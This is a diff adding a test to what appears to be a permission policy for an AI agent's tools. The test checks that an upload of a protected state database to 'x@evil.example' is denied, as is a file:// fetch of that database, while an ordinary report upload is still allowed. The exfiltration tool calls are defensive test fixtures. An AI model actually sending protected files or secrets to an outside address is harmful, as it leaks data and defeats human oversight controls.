@@ -214,3 +214,20 @@ def test_a_secret_never_reaches_the_model_through_any_route(bench: Bench) -> Non
     assert [r.outcome for r in bench.results if r.outcome == "ran"] == []
     assert not bench.leaked()
     assert CANARY in (bench.ws / "secrets" / "k").read_text()
+
+
+def test_other_tools_that_name_files_cannot_send_protected_state(tmp_path: Path) -> None:
+    @tool(tier="external", kind="other", path_arg="path")
+    def upload(path: str, to: str) -> str:
+        return "uploaded"
+
+    registry = Registry()
+    registry.add(upload.__signoff_spec__)  # type: ignore[attr-defined]
+    policy = Policy(Settings.from_rules(allow=["upload"]), workspace=tmp_path,
+                    registry=registry)
+    sent = ToolCall("upload", {"path": ".signoff/signoff.db", "to": "x@evil.example"})
+    assert policy.evaluate(sent).effect == "deny"
+    fine = ToolCall("upload", {"path": "report.pdf", "to": "x@evil.example"})
+    assert policy.evaluate(fine).effect == "allow"  # the person's allow rule still works
+    local = ToolCall("fetch_url", {"url": f"file://{tmp_path}/.signoff/signoff.db"})
+    assert policy.evaluate(local).effect == "deny"
